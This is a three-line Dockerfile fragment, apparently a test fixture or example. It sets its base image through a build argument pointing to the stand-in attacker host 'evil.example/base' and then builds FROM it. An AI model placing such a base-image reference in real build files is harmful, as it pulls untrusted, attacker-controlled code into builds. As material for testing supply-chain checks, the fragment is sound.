# image-registry: the base stands in ARG
ARG BASE=evil.example/base
FROM ${BASE}
